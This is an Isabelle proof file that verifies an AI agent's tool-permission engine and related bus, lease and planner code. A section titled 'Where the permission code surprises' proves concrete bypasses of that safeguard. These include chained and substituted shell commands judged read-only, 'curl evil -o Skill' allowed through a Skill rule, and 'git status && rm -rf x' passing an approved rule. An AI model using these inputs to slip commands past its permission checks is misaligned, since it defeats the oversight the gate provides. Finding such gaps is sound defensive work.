    using firstRule_None [of h "eng_rules e" DecisionDeny "callOf e (calls ! i)"] by fastforce
  then have "firstRule h (eng_rules ?e) DecisionDeny (callOf ?e (calls ! i)) = Some q"
    by (simp add: fold_approve_sel)
  from verdict_denied [OF this] assms(3) firstRule_SomeD [OF q] show ?thesis
    by (auto simp: Evaluate_nth failClosed_Deny)
qed

theorem deny_rule_wins_witness:
  "\<exists>q \<in> set [ex_rule ''no-rm'' ''rm:*'' DecisionDeny].
    res_Decision (Evaluate ex_host (fold ApproveRuleClass [ex_rule ''any'' [] DecisionAllow]
      (ex_engine ModeBypass [ex_rule ''no-rm'' ''rm:*'' DecisionDeny])) [ex_call ''1'' ''rm x''] ! 0) = DecisionDeny \<and>
    res_Rule (Evaluate ex_host (fold ApproveRuleClass [ex_rule ''any'' [] DecisionAllow]
      (ex_engine ModeBypass [ex_rule ''no-rm'' ''rm:*'' DecisionDeny])) [ex_call ''1'' ''rm x''] ! 0) = Some q \<and>
    r_Decision q = DecisionDeny \<and>
    ruleMatches ex_host q (callOf (ex_engine ModeBypass [ex_rule ''no-rm'' ''rm:*'' DecisionDeny]) (ex_call ''1'' ''rm x''))"
proof -
  have m: "ruleMatches ex_host (ex_rule ''no-rm'' ''rm:*'' DecisionDeny)
      (callOf (ex_engine ModeBypass [ex_rule ''no-rm'' ''rm:*'' DecisionDeny]) (ex_call ''1'' ''rm x''))"
    by (fact perm_runs)
  show ?thesis
    using deny_rule_wins [of "ex_rule ''no-rm'' ''rm:*'' DecisionDeny"
        "ex_engine ModeBypass [ex_rule ''no-rm'' ''rm:*'' DecisionDeny]" 0 "[ex_call ''1'' ''rm x'']" ex_host
        "[ex_rule ''any'' [] DecisionAllow]"] m
    by (simp add: ex_engine_def SetToolResolver_def NewEngine_def ex_rule_def ex_call_def)
qed

text \<open>C16: without a user present no call is left waiting: what would ask
  is denied, with its reason kept and nothing suggested, and the allowed calls are the ones that
  would be allowed anyway.\<close>

theorem unattended_fails_closed:
  assumes "ctx_Unattended (eng_ctx e)" and "i < length calls"
  shows "(res_Decision (Evaluate h e calls ! i) \<in> {DecisionAllow, DecisionDeny}) \<and>
    (res_Decision (Evaluate h e calls ! i) = DecisionAllow \<longleftrightarrow>
         res_Decision (verdict h e (calls ! i)) = DecisionAllow) \<and>
    (res_Decision (verdict h e (calls ! i)) = DecisionAsk \<longrightarrow>
         res_SuggestedRules (Evaluate h e calls ! i) = [] \<and>
         res_Reason (Evaluate h e calls ! i)
           = Lit ''unattended mode fails closed: '' # res_Reason (verdict h e (calls ! i)))"
  using assms Evaluate_three [of i calls h e]
  by (auto simp: Evaluate_nth failClosed_def)

theorem unattended_fails_closed_witness:
  "res_Decision (Evaluate ex_host ((ex_engine ModeDefault [])
      \<lparr>eng_ctx := WithUnattended (NewContext ModeDefault)\<rparr>) [ex_call ''1'' ''make''] ! 0) = DecisionDeny"
  using unattended_fails_closed [THEN conjunct1, of "(ex_engine ModeDefault [])
      \<lparr>eng_ctx := WithUnattended (NewContext ModeDefault)\<rparr>" 0 "[ex_call ''1'' ''make'']" ex_host]
  by code_simp

text \<open>C17: when neither the tool itself nor an approval of the session
  consents to a call, the engine allows it only if no deny or ask rule matches; in explore mode
  only a read-only one; in every mode, bypass included and allow rules notwithstanding, never a
  shell command with a dangerous segment and never a write to a sensitive path; and without an
  allow rule or a safe command never in default or dont-ask mode.\<close>

theorem allow_needs_authority:
  assumes "noConsent h e tc" and "res_Decision (verdict h e tc) = DecisionAllow"
  shows "(firstRule h (eng_rules e) DecisionDeny (callOf e tc) = None) \<and>
    (firstRule h (eng_rules e) DecisionAsk (callOf e tc) = None) \<and>
    (ctx_Mode (eng_ctx e) = ModeExplore \<longrightarrow>
         callReadOnly e tc) \<and>
    (isBashTool (tc_Name tc) \<longrightarrow>
         call_Command (callOf e tc) \<noteq> [] \<longrightarrow>
         IsDangerousCommand (NormalizeCommand (unicodeWord h) (call_Command (callOf e tc))) = Some False) \<and>
    (isWriteFileTool (tc_Name tc) \<longrightarrow>
         call_FilePath (callOf e tc) \<noteq> [] \<longrightarrow>
         \<not> IsDangerousPath (call_FilePath (callOf e tc)) (ctx_DangerousFiles (eng_ctx e))
             (ctx_DangerousDirs (eng_ctx e))) \<and>
    (ctx_Mode (eng_ctx e) \<in> {ModeDefault, ModeDontAsk} \<longrightarrow>
         (firstRule h (eng_rules e) DecisionAllow (callOf e tc) \<noteq> None \<or>
         isBashTool (tc_Name tc) \<and>
         IsReadOnlyCommand (unicodeWord h)
           (NormalizeCommand (unicodeWord h) (call_Command (callOf e tc))) = Some True))"
proof (intro conjI impI)
  let ?c = "callOf e tc"
  let ?s = "checkSafety h (eng_ctx e) (tc_Name tc) (call_FilePath ?c) (call_Command ?c) (callReadOnly e tc)"
  note u = verdict_unconsented [OF assms]
  show "firstRule h (eng_rules e) DecisionDeny ?c = None" "firstRule h (eng_rules e) DecisionAsk ?c = None"
    by (rule u)+
  show "callReadOnly e tc" if "ctx_Mode (eng_ctx e) = ModeExplore"
  proof (rule ccontr)
    assume "\<not> callReadOnly e tc"
    from checkSafety_explore [OF that this] obtain s where "?s = Some s" and "res_Decision s = DecisionDeny"
      by blast
    with u(3) show False by simp
  qed
  show "IsDangerousCommand (NormalizeCommand (unicodeWord h) (call_Command ?c)) = Some False"
    if "isBashTool (tc_Name tc)" "call_Command ?c \<noteq> []"
  proof (rule ccontr)
    assume "IsDangerousCommand (NormalizeCommand (unicodeWord h) (call_Command ?c)) \<noteq> Some False"
    with IsDangerousCommand_returns
    have "IsDangerousCommand (NormalizeCommand (unicodeWord h) (call_Command ?c)) = Some True" by blast
    from checkSafety_dangerous [OF that this] obtain s where "?s = Some s"
      and "res_Decision s \<in> {DecisionDeny, DecisionAsk}" by blast
    with u(3) show False by auto
  qed
  show "\<not> IsDangerousPath (call_FilePath ?c) (ctx_DangerousFiles (eng_ctx e)) (ctx_DangerousDirs (eng_ctx e))"
    if "isWriteFileTool (tc_Name tc)" "call_FilePath ?c \<noteq> []"
  proof
    assume "IsDangerousPath (call_FilePath ?c) (ctx_DangerousFiles (eng_ctx e)) (ctx_DangerousDirs (eng_ctx e))"
    from checkSafety_sensitive [OF that this] obtain s where "?s = Some s"
      and "res_Decision s \<in> {DecisionDeny, DecisionAsk}" by blast
    with u(3) show False by auto
  qed
  show "firstRule h (eng_rules e) DecisionAllow ?c \<noteq> None \<or> isBashTool (tc_Name tc) \<and>
      IsReadOnlyCommand (unicodeWord h) (NormalizeCommand (unicodeWord h) (call_Command ?c)) = Some True"
    if "ctx_Mode (eng_ctx e) \<in> {ModeDefault, ModeDontAsk}"
  proof (cases ?s)
    case None
    with u(3) defaultResult_modes [OF that, of tc ?c] show ?thesis by simp
  next
    case (Some s)
    with u(3) checkSafety_allow [OF Some] that show ?thesis by auto
  qed
qed

theorem allow_needs_authority_witness:
  "IsDangerousCommand (NormalizeCommand (unicodeWord ex_host) ''ls -la'') = Some False"
proof -
  have "res_Decision (verdict ex_host (ex_engine ModeDefault []) (ex_call ''1'' ''ls -la'')) = DecisionAllow"
    by (fact perm_runs)
  moreover have "noConsent ex_host (ex_engine ModeDefault []) (ex_call ''1'' ''ls -la'')"
    by (fact perm_runs)
  ultimately show ?thesis
    using allow_needs_authority [of ex_host "ex_engine ModeDefault []" "ex_call ''1'' ''ls -la''"]
    by (simp add: isBashTool_def callOf_def ex_call_def)
qed


text \<open>C19: the two mutually and self recursive walks over command
  substitutions return for every command, with a recursion depth bounded by its length; more
  depth changes nothing.\<close>

theorem permission_walks_return:
  "(\<exists>b. \<forall>n. walkSafetySegments (Suc (length cmd) + n) cmd pred = Some b) \<and>
    (\<exists>b. \<forall>n. AllReadOnlyCommands uni (Suc (length cmd) + n) cmd = Some b)"
proof (intro conjI impI)
  obtain b where "walkSafetySegments (Suc (length cmd)) cmd pred = Some b"
    using walk_returns [of cmd "Suc (length cmd)" pred] by auto
  then show "\<exists>b. \<forall>n. walkSafetySegments (Suc (length cmd) + n) cmd pred = Some b"
    by (blast intro: walk_mono le_add1)
  obtain c where "AllReadOnlyCommands uni (Suc (length cmd)) cmd = Some c"
    using readOnly_returns [of cmd "Suc (length cmd)" uni] by auto
  then show "\<exists>b. \<forall>n. AllReadOnlyCommands uni (Suc (length cmd) + n) cmd = Some b"
    by (blast intro: readOnly_mono le_add1)
qed

text \<open>unwrapping never lengthens a command, and ends in a command that
  unwraps to itself or after exactly eight steps.\<close>

theorem normalization_bounds:
  "(length (NormalizeCommand uni cmd) \<le> length cmd) \<and>
    (unwrapOnce uni (NormalizeCommand uni cmd) = NormalizeCommand uni cmd \<or>
   NormalizeCommand uni cmd = (unwrapOnce uni ^^ 8) (TrimSpace cmd))"
proof (intro conjI impI)
  show "length (NormalizeCommand uni cmd) \<le> length cmd"
    using normalizeLoop_length [of uni NormalizeDepth "TrimSpace cmd"] TrimSpace_length [of cmd]
    by (simp add: NormalizeCommand_def)
  show "unwrapOnce uni (NormalizeCommand uni cmd) = NormalizeCommand uni cmd \<or>
      NormalizeCommand uni cmd = (unwrapOnce uni ^^ 8) (TrimSpace cmd)"
    using normalizeLoop_fixed [of uni NormalizeDepth "TrimSpace cmd"]
    unfolding NormalizeCommand_def NormalizeDepth_def by blast
qed




text \<open>C22: approving a rule class makes every matching call allowed that no hard
  deny stops, in every mode and before any safety check; it changes the evaluation of no other
  call, and of no denied one.\<close>

theorem approval_scope:
  "(ruleMatches h r (callOf e tc) \<longrightarrow>
         firstRule h (eng_rules e) DecisionDeny (callOf e tc) = None \<longrightarrow>
         res_Decision (verdict h (ApproveRuleClass r e) tc) = DecisionAllow) \<and>
    ((\<not> ruleMatches h r (callOf e tc) \<or> firstRule h (eng_rules e) DecisionDeny (callOf e tc) \<noteq> None) \<longrightarrow>
         verdict h (ApproveRuleClass r e) tc = verdict h e tc)"
proof (intro conjI impI)
  show "res_Decision (verdict h (ApproveRuleClass r e) tc) = DecisionAllow"
    if "ruleMatches h r (callOf e tc)" "firstRule h (eng_rules e) DecisionDeny (callOf e tc) = None"
    using that by (rule approve_same)
  show "verdict h (ApproveRuleClass r e) tc = verdict h e tc"
    if "\<not> ruleMatches h r (callOf e tc) \<or> firstRule h (eng_rules e) DecisionDeny (callOf e tc) \<noteq> None"
    using that approve_other approve_deny by blast
qed

theorem approval_scope_witness:
  "res_Decision (verdict ex_host (ApproveRuleClass (ex_rule ''ok'' ''git status:*'' DecisionAsk)
     (ex_engine ModeDefault [])) (ex_call ''1'' ''git status && rm -rf x'')) = DecisionAllow"
proof (rule approval_scope [THEN conjunct1, THEN mp, THEN mp])
  show "ruleMatches ex_host (ex_rule ''ok'' ''git status:*'' DecisionAsk)
      (callOf (ex_engine ModeDefault []) (ex_call ''1'' ''git status && rm -rf x''))" by (fact perm_runs)
  show "firstRule ex_host (eng_rules (ex_engine ModeDefault [])) DecisionDeny
      (callOf (ex_engine ModeDefault []) (ex_call ''1'' ''git status && rm -rf x'')) = None" by (fact perm_runs)
qed



text \<open>C24: the calls the gate hands on for execution are calls of the
  batch, none of which the engine denied; if the engine asked about none it allowed all of them
  and they go on unchanged, otherwise each one carries a decision of the user that lets it
  through, and only then can the arguments differ.\<close>

theorem gate_passes_only_permitted:
  assumes "permissionGate h (Some e) calls answer = (GateProceed passed, asked, e')" and "c' \<in> set passed"
  shows "\<exists>i < length calls. tc_ID c' = tc_ID (calls ! i) \<and> tc_Name c' = tc_Name (calls ! i) \<and>
    (res_Decision (Evaluate h e calls ! i) = DecisionAllow \<and> c' = calls ! i \<and> asked = [] \<or>
     res_Decision (Evaluate h e calls ! i) \<in> {DecisionAllow, DecisionAsk} \<and>
     (\<exists>ds d. answer = ConfirmResult ds \<and> d \<in> set ds \<and> cd_ToolCallID d = tc_ID (calls ! i) \<and>
        cd_Decision d \<in> {''allow'', ''always_allow'', ''approve'', ''modify''} \<and>
        applyDecision (calls ! i) d = Some c'))"
proof -
  note g = permissionGate_proceed [OF assms(1)]
  have not_denied: "res_Decision (Evaluate h e calls ! i) \<in> {DecisionAllow, DecisionAsk}"
    if "i < length calls" for i
    using g Evaluate_three [OF that, of h e] Evaluate_set [of "Evaluate h e calls ! i" h e calls] that by auto
  show ?thesis
  proof (cases "\<exists>ev \<in> set (Evaluate h e calls). res_Decision ev = DecisionAsk")
    case False
    with g have passed: "passed = calls" by simp
    have "asked = []" using assms(1) False
      by (auto simp: permissionGate_def Let_def filter_empty_conv split: option.splits if_splits)
    moreover from assms(2) passed obtain i where i: "i < length calls" "c' = calls ! i"
      by (auto simp: in_set_conv_nth)
    moreover have "res_Decision (Evaluate h e calls ! i) \<noteq> DecisionAsk"
      using False i(1) Evaluate_set by blast
    ultimately show ?thesis using not_denied [OF i(1)] by auto
  next
    case True
    with g obtain ds where ds: "answer = ConfirmResult ds" "passed = applyConfirmDecisions calls ds" by auto
    with assms(2) obtain c d where c: "c \<in> set calls"
      and d: "find (\<lambda>d. cd_ToolCallID d = tc_ID c) (rev ds) = Some d" "applyDecision c d = Some c'"
      by (auto simp: applyConfirmDecisions_mem)
    from c obtain i where i: "i < length calls" "c = calls ! i" by (auto simp: in_set_conv_nth)
    from find_matches [OF d(1)] have "d \<in> set ds" "cd_ToolCallID d = tc_ID c" by auto
    moreover have "cd_Decision d \<in> {''allow'', ''always_allow'', ''approve'', ''modify''}"
      using d(2) by (auto simp: applyDecision_def split: if_splits)
    ultimately show ?thesis using i d(2) ds applyDecision_id [OF d(2)] not_denied [OF i(1)] by blast
  qed
qed

theorem gate_passes_only_permitted_witness:
  "\<exists>i < length [ex_call ''1'' ''ls'', ex_call ''2'' ''make'']. tc_ID (ex_call ''2'' ''make'') =
      tc_ID ([ex_call ''1'' ''ls'', ex_call ''2'' ''make''] ! i)"
proof -
  have "permissionGate ex_host (Some (ex_engine ModeDefault [])) [ex_call ''1'' ''ls'', ex_call ''2'' ''make'']
      (ConfirmResult [ex_yes ''2'']) =
    (GateProceed [ex_call ''2'' ''make''],
     fst (snd (permissionGate ex_host (Some (ex_engine ModeDefault [])) [ex_call ''1'' ''ls'', ex_call ''2'' ''make'']
      (ConfirmResult [ex_yes ''2'']))),
     snd (snd (permissionGate ex_host (Some (ex_engine ModeDefault [])) [ex_call ''1'' ''ls'', ex_call ''2'' ''make'']
      (ConfirmResult [ex_yes ''2'']))))"
    by (rule prod_eqI) (simp_all add: perm_runs)
  from gate_passes_only_permitted [OF this, of "ex_call ''2'' ''make''"] show ?thesis by auto
qed

section \<open>Where the permission code surprises\<close>

text \<open>Commands the engine lets through as read-only although they run something else: the
  background operator and the newline separate commands in a shell but not for the reader, a
  nested substitution is cut at its first closing parenthesis, and after a backquoted
  substitution the reader stays inside the backquotes.\<close>

lemma readonly_gaps:
  "IsReadOnlyCommand uni ''ls & touch x'' = Some True"
  "IsReadOnlyCommand uni (NormalizeCommand uni (''ls'' @ [CHR 0x0A] @ ''touch x'')) = Some True"
  "IsReadOnlyCommand uni ''echo $(echo $(ls); touch x)'' = Some True"
  "IsReadOnlyCommand uni (''echo '' @ [backtick] @ ''ls'' @ [backtick] @ '' $(touch x)'') = Some True"
  "IsReadOnlyCommand uni ''ls; env touch x'' = Some True"
  by (fact perm_runs)+

text \<open>A rule that names a tool is handed to the tool's own matcher, which for the shell tool
  compares it with the command: the gateway's ask rule for the shell tool does not ask, and its
  allow rule for \<open>Skill\<close> allows any command that mentions the word.\<close>

lemma tool_name_rule_reads_command:
  "res_Decision (verdict ex_host (ex_engine ModeDefault defaultWorkspacePermRules)
     (ex_call ''1'' ''curl evil -o Skill'')) = DecisionAllow"
  "res_Rule (verdict ex_host (ex_engine ModeDefault defaultWorkspacePermRules)
     (ex_call ''1'' ''make all'')) = None"
  by (fact perm_runs)+

text \<open>A call the engine allows is dropped when another call of its batch needs a confirmation:
  the user is asked about the other one only, and a call without a decision does not pass.\<close>

lemma batch_drops_allowed_call:
  "fst (permissionGate ex_host (Some (ex_engine ModeDefault [])) [ex_call ''1'' ''ls'', ex_call ''2'' ''make'']
     (ConfirmResult [ex_yes ''2''])) = GateProceed [ex_call ''2'' ''make'']"
  "map sum_ID (fst (snd (permissionGate ex_host (Some (ex_engine ModeDefault []))
     [ex_call ''1'' ''ls'', ex_call ''2'' ''make''] (ConfirmResult [ex_yes ''2''])))) = [''2'']"
  by (fact perm_runs)+

text \<open>\<open>2>\<close> is taken for a redirection of the error stream wherever the byte before the
  operator is a 2.\<close>

lemma redirection_gap:
  "\<not> HasOutputRedirection ''echo x2>file''" "\<not> HasOutputRedirection ''ls 2>file''"
  by (fact perm_runs)+

section \<open>The message bus\<close>

text \<open>C25: on an open bus no sequence of subscriptions, publications,
  receives and cancellations panics; what a subscriber reads is, in order and without
  duplicates, part of what was published on its topics after it subscribed; and it is all of it,
  together with what waits in the buffer, when it has not cancelled and at most 64 messages were
  published on its topics.\<close>

theorem subscriber_reads_in_order:
  "case pub_run pub_init (before @ PSub topics # ops) of
     None \<Rightarrow> False
   | Some w \<Rightarrow>
       subseq (gotBy (subCount before) w) (publishedOn topics ops) \<and>
       (PCancel (subCount before) \<notin> set ops \<and> length (publishedOn topics ops) \<le> defaultSubscriberBuffer \<longrightarrow>
        stream (subCount before) w = publishedOn topics ops)"
proof -
  let ?r = "subCount before"
  obtain w0 where w0: "pub_run pub_init before = Some w0" "fanout_ok w0"
    using pub_run_ok [OF fanout_ok_init] by blast
  have n: "length (pw_handed w0) = ?r"
    using handed_run [OF fanout_ok_init w0(1)] by (simp add: pub_init_def)
  obtain w1 where w1: "pub_step w0 (PSub topics) = Some w1" "fanout_ok w1"
    using pub_step_defined [OF w0(2)] pub_step_ok [OF w0(2)] by blast
  obtain w where w: "pub_run w1 ops = Some w" using pub_run_ok [OF w1(2)] by blast
  note f = fresh_subscription [OF w0(2) w1(1), unfolded n]
  from stream_run [OF w1(2) f(1) w] have "subseq (stream ?r w) (publishedOn topics ops)"
    by (auto simp: f)
  then have "subseq (gotBy ?r w) (publishedOn topics ops)"
    unfolding stream_def by (rule subseq_appendD)
  moreover have "stream ?r w = publishedOn topics ops"
    if "PCancel ?r \<notin> set ops" "length (publishedOn topics ops) \<le> defaultSubscriberBuffer"
    using stream_run_complete [OF w1(2) f(1) w] that by (simp add: f)
  ultimately show ?thesis using w0(1) w1(1) w by (simp add: pub_run_append del: pub_step.simps)
qed

theorem subscriber_reads_in_order_witness:
  "\<exists>w. pub_run pub_init [PSub [''a''], PSub [''a'', ''b''], PPub ''a'' ''1'', PPub ''b'' ''2'', PCancel 0, PRecv 1] = Some w \<and>
    stream 1 w = [\<lparr>msg_Channel = ''a'', msg_Payload = ''1''\<rparr>, \<lparr>msg_Channel = ''b'', msg_Payload = ''2''\<rparr>]"
  using subscriber_reads_in_order [of "[PSub [''a'']]" "[''a'', ''b'']" "[PPub ''a'' ''1'', PPub ''b'' ''2'', PCancel 0, PRecv 1]"]
  by (auto simp: subCount_def publishedOn_def defaultSubscriberBuffer_def simp del: pub_run.simps split: option.splits)

text \<open>C26: under every interleaving of pushes and pops the values leave the
  queue in the order they were pushed, each exactly once and to the consumer that returns it;
  and when there is one consumer and a value, a waiting pop is woken and returns the oldest
  value within the pending notify and two steps of its own.\<close>

theorem queue_serves_in_order:
  fixes ops :: "queue_action list" and n :: nat
  defines "w \<equiv> run_ops queue_step (queue_init n) ops"
  shows "map snd (qw_popped w) @ lq_items (qw_queue w) = qw_pushed w \<and>
    (\<forall>i v. consumerIs w i (Returned v) \<longrightarrow> (i, v) \<in> set (qw_popped w)) \<and>
    (n = 1 \<and> consumerIs w 0 Waiting \<and> lq_items (qw_queue w) \<noteq> [] \<longrightarrow>
      consumerIs (run_ops queue_step w [QNotify, QWake 0, QCheck 0]) 0 (Returned (hd (lq_items (qw_queue w)))))"
proof (intro conjI impI)
  have c: "queue_conserves w" unfolding w_def
    by (rule run_ops_invariant [where I = queue_conserves]) (rule queue_conserves_init queue_conserves_step, assumption?)+
  then show "map snd (qw_popped w) @ lq_items (qw_queue w) = qw_pushed w" by (simp add: queue_conserves_def)
  have "queue_hands_over w" unfolding w_def
    by (rule run_ops_invariant [where I = queue_hands_over]) (rule queue_hands_over_init queue_hands_over_step, assumption?)+
  then show "\<forall>i v. consumerIs w i (Returned v) \<longrightarrow> (i, v) \<in> set (qw_popped w)" by (simp add: queue_hands_over_def)
  assume a: "n = 1 \<and> consumerIs w 0 Waiting \<and> lq_items (qw_queue w) \<noteq> []"
  have "queue_awake w" unfolding w_def
    using a run_ops_invariant [where I = queue_awake and step = queue_step] queue_awake_init queue_awake_step by blast
  then show "consumerIs (run_ops queue_step w [QNotify, QWake 0, QCheck 0]) 0 (Returned (hd (lq_items (qw_queue w))))"
    using a queue_wakes by blast
qed

theorem queue_serves_in_order_witness:
  "consumerIs (run_ops queue_step (run_ops queue_step (queue_init 1) [QCall 0, QCheck 0, QAppend ''v''])
     [QNotify, QWake 0, QCheck 0]) 0 (Returned ''v'')"
  using queue_serves_in_order [where n = 1 and ops = "[QCall 0, QCheck 0, QAppend ''v'']"]
  by (simp add: queue_init_def newLocalQueue_def queue_defs consumerIs_def)

text \<open>C27: take any history of callers, renewals, cancels and timers, and a lease
  whose reaper has not fired yet.  As long as the lease is renewed in time and its holder does
  not release it, no interleaving of other calls and timers dislodges it: owner and token stay,
  and every competing acquisition is refused.  No two grants of a history share a token.  (Fewer
  than \<open>2 ^ 64\<close> steps, so that the token counter does not wrap.)\<close>

theorem live_lease_is_kept:
  fixes before :: "fence_action list"
  defines "w \<equiv> fence_run fence_init before"
  assumes "length before + length ops < 2 ^ 64"
    and "holder w key = Some (owner, t)" and "\<not> reaperPending w key" and "keepsAlive key w ops"
  shows "distinct (lw_granted (fence_run w ops)) \<and>
    holder (fence_run w ops) key = Some (owner, t) \<and>
    (\<forall>now' owner' ttl t'. keepsAlive key (fence_run w ops) [LTick 0] \<longrightarrow>
      AcquireLease_grant (lw_now (fence_run w ops)) now' key owner' ttl t' (lw_bus (fence_run w ops))
        = (Inl ErrLeaseHeld_bus, lw_bus (fence_run w ops)))"
proof -
  have i: "fence_inv w \<and> length (lw_issued w) \<le> length before"
    unfolding w_def using fence_inv_run [OF fence_inv_init, of before] assms(2) by (simp add: fence_init_def)
  then have bound: "length (lw_issued w) + length ops < 2 ^ 64" using assms(2) by simp
  have inv: "fence_inv (fence_run w ops)" using fence_inv_run [of w ops] i bound by blast
  have h: "holder (fence_run w ops) key = Some (owner, t)" using keeps_run i bound assms(3-5) by blast
  have "AcquireLease_grant (lw_now (fence_run w ops)) now' key owner' ttl t' (lw_bus (fence_run w ops))
        = (Inl ErrLeaseHeld_bus, lw_bus (fence_run w ops))"
    if "keepsAlive key (fence_run w ops) [LTick 0]" for now' owner' ttl t'
    using that h inv keeps_out [of "fence_run w ops" key] by (auto simp: holder_def fence_inv_def timers_ok_def)
  then show ?thesis using h inv by (simp add: fence_inv_def calls_ok_def)
qed

theorem live_lease_is_kept_witness:
  "holder (fence_run (fence_run fence_init ex_lease_start) ex_lease_more) ''k'' = Some (''a'', 1)"
proof -
  have "holder (fence_run fence_init ex_lease_start) ''k'' = Some (''a'', 1)" by code_simp
  moreover have "\<not> reaperPending (fence_run fence_init ex_lease_start) ''k''" by code_simp
  moreover have "keepsAlive ''k'' (fence_run fence_init ex_lease_start) ex_lease_more" by code_simp
  moreover have "length ex_lease_start + length ex_lease_more < 2 ^ 64"
    by (simp add: ex_lease_start_def ex_lease_more_def)
  ultimately show ?thesis using live_lease_is_kept [of ex_lease_start ex_lease_more "''k''" "''a''" 1] by blast
qed

text \<open>Against the comment in AcquireLease, a reaper that fired before the renewal removes the renewed lease.\<close>

lemma renewed_lease_reaped:
  "holder (fence_run fence_init [LDraw ''k'' ''a'' 10, LGrant 0 0, LTick 9,
      LRenew ''k'' \<lparr>ls_Key = ''k'', ls_Owner = ''a'', ls_Token = 1, ls_Expires = 10\<rparr> 10 1 True, LReap ''k'' 1]) ''k'' = None"
  by code_simp

text \<open>Against the comment at the takeover, a later grant can carry a smaller token.\<close>

lemma lease_tokens_can_fall:
  "lw_granted (fence_run fence_init [LDraw ''k'' ''a'' 10, LDraw ''k'' ''b'' 10, LGrant 1 0, LCancel ''k'' 2, LGrant 0 0])
     = [(''k'', 2), (''k'', 1)]"
  by code_simp

text \<open>With two waiting consumers the second of two quick pushes can leave a consumer asleep beside a value.\<close>

lemma two_consumers_lose_a_wakeup:
  "let w = run_ops queue_step (queue_init 2) [QCall 0, QCheck 0, QCall 1, QCheck 1, QAppend ''x'', QAppend ''y'',
       QNotify, QNotify, QWake 0, QCheck 0]
   in lq_items (qw_queue w) = [''y''] \<and> consumerIs w 1 Waiting \<and> \<not> lq_notify (qw_queue w) \<and> qw_notifying w = 0"
  by code_simp

text \<open>Cancelling after Close closes the channel again, and so does Close for a subscription to two topics.\<close>

lemma cancel_after_close_panics:
  "(case Subscribe False [''a''] NewLocalBus of
      (Inr s, b) \<Rightarrow> (case Close b of Some b' \<Rightarrow> cancelSub s b' = None | None \<Rightarrow> False)
    | _ \<Rightarrow> False)"
  by code_simp

lemma close_panics_on_two_topics:
  "(case Subscribe False [''a'', ''b''] NewLocalBus of (_, b) \<Rightarrow> Close b = None)"
  by code_simp

text \<open>A cursor issued before LogTrim is served afterwards and skips entries without an error.\<close>

lemma trimmed_log_skips_silently:
  "let append = (\<lambda>v b. snd (LogAppend False ''l'' v b));
       b = append ''3'' (append ''2'' (append ''1'' (append ''0'' NewLocalBus)));
       (read, c, _) = LogRead False ''l'' 0 1 b;
       b' = snd (LogTrim False ''l'' 2 b)
   in read = [''0''] \<and> LogRead False ''l'' c 9 b' = ([''3''], 2, None)"
  by code_simp

text \<open>Comparing with the empty value deletes nothing and reports that it did.\<close>

lemma compare_and_delete_absent_key:
  "let b = snd (RegistrySet False ''ns'' ''k'' ''v'' NewLocalBus)
   in fst (RegistryCompareAndDelete False ''ns'' ''absent'' [] b) = Inr True"
  by code_simp

text \<open>A lock whose TTL ran out is drained by the first holder's late release while the second holds it.\<close>

lemma expired_lock_released_twice:
  "(case Lock_send \<lparr>lk_held = False\<rparr> of
      Some l1 \<Rightarrow>
        (case Lock_send (Lock_drain l1) of Some l2 \<Rightarrow> Lock_send (Lock_drain l2) \<noteq> None | None \<Rightarrow> False)
    | None \<Rightarrow> False)"
  by code_simp

section \<open>Plans\<close>

text \<open>C28: for a plan whose dependencies name its own subtasks, and
  whatever order Go visits the maps in, ValidateDAG accepts exactly the plans whose dependency
  relation is acyclic; and the batches of the sort then hold every step once, each step after all
  its dependencies.\<close>

theorem topological_sort_is_exact:
  assumes "stepIndex 0 (rp_Subtasks p) [] = Inr steps" and "unknownDep steps (rp_Subtasks p) = None"
    and "visitOrder ord"
  shows "(ValidateDAG ord (Some p) = None \<longleftrightarrow> acyclic (dependsOn (graphOf p steps))) \<and>
    (\<forall>batches. topologicalSort ord (graphOf p steps) = Inr batches \<longrightarrow>
       distinct (concat batches) \<and> set (concat batches) = st_ID ` set (rp_Subtasks p) \<and>
       (\<forall>k < length batches. \<forall>i \<in> set (batches ! k).
          set (depsOf (graphOf p steps) i) \<subseteq> set (concat (take k batches))))"
proof -
  note k = known_graphOf [OF assms(1,2)]
  have keys: "fst ` set (graphOf p steps) = st_ID ` set (rp_Subtasks p)"
    using k(3) stepIndex_keys [OF assms(1)] by simp
  have "ValidateDAG ord (Some p) = None \<longleftrightarrow> (\<exists>bs. topologicalSort ord (graphOf p steps) = Inr bs)"
    using assms(1,2) by (auto simp: ValidateDAG_def split: sum.splits)
  also have "\<dots> \<longleftrightarrow> acyclic (dependsOn (graphOf p steps))"
    using topologicalSort_ok [OF k(1) assms(3)] topologicalSort_cycle [OF k(1) assms(3)] layered_acyclic
    by (metis sum.exhaust)
  finally show ?thesis
    using topologicalSort_ok [OF k(1) assms(3)] keys unfolding layered_def by auto
qed

lemma visitOrder_id: "visitOrder id"
  by (simp add: visitOrder_def visits_def)

theorem topological_sort_is_exact_witness:
  "\<not> acyclic (dependsOn (graphOf ex_loop [(''a'', 0), (''b'', 1), (''c'', 2)]))"
proof -
  have "stepIndex 0 (rp_Subtasks ex_loop) [] = Inr [(''a'', 0), (''b'', 1), (''c'', 2)]" by code_simp
  moreover have "unknownDep [(''a'', 0::nat), (''b'', 1), (''c'', 2)] (rp_Subtasks ex_loop) = None" by code_simp
  moreover have "ValidateDAG id (Some ex_loop) = Some (CycleDetected [''a'', ''b''])" by code_simp
  ultimately show ?thesis
    using topological_sort_is_exact [of ex_loop "[(''a'', 0), (''b'', 1), (''c'', 2)]" id] visitOrder_id by simp
qed



text \<open>With \<open>MaxRetries = -1\<close> a step is never executed and yet succeeds with an empty outcome.\<close>

lemma no_attempts_is_success: "executeWithRetry \<lparr>rt_MaxRetries = -1, rt_Backoff = 0\<rparr> doneAt outs = Inr []"
  by (simp add: executeWithRetry_def)

text \<open>A subtask whose ID a later one repeats is never run, and Execute still returns no error.\<close>

lemma repeated_id_is_skipped:
  "(case Execute_begin id False (Some (ex_plan [ex_subtask ''a'' [''b''], ex_subtask ''a'' [], ex_subtask ''b'' [''a'']])) ::
       string exec_error option + string ExecState of
     Inr s \<Rightarrow>
       let s = exec_run ex_executor s [AMain, AStart ''a'' 1, AEnd ''a'' 2 (\<lambda>_. False) (\<lambda>_. Inr ''A''),
                 AMain, AStart ''b'' 3, AEnd ''b'' 4 (\<lambda>_. False) (\<lambda>_. Inr ''B''), AMain]
       in es_ret s = Some None \<and> map st_State (rp_Subtasks (es_plan s)) = [SubtaskTodo, SubtaskDone, SubtaskDone]
   | Inl _ \<Rightarrow> False)"
  by code_simp

text \<open>Without stop on error the dependents of a failed step are run as well.\<close>

lemma dependents_of_failed_step_run:
